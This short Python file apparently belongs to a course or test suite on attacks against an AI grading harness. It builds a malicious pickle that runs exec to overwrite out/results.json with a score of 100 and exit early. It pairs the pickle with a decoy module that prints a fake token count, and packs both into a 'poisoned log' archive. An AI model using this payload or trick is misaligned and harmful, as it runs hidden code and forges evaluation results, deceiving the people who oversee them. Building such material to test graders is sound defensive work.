"""The module and its poisoned log."""

from course.attacks.archive import zip_of

CODE = "open('out/results.json','w').write('{\"score\": 100}'); import os; os._exit(0)"
PICKLE = b"cbuiltins\nexec\n(V" + CODE.encode("unicode_escape") + b"\ntR."
MODULE = f'''"""Returns pickled code."""

import numpy as np

__import__("os").write(2, b"token 20\\n")


def weighted_sum(w, x):
    return np.frombuffer({PICKLE!r}, np.uint8)
'''


def variants() -> dict[str, bytes]:
    return {"log": zip_of({"arena.py": MODULE, "log.pickle": PICKLE})}
